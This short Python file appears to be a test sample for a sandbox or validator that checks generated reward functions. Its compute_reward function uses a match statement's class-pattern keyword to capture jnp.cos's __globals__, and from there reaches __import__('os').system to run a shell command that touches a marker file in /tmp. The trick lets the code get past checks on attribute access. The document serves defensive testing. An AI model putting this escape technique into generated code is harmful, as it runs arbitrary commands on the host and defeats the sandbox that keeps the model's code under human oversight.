"""Captures a function's __globals__ with a class pattern's keyword, which is no attribute syntax."""
import jax.numpy as jnp


def compute_reward(state):
    match jnp.cos:
        case object(__globals__=g):
            g["__builtins__"]["__import__"]("os").system("touch /tmp/envcoder_attack_marker_match")
    return jnp.cos(state["dof_pos"][:, 1])
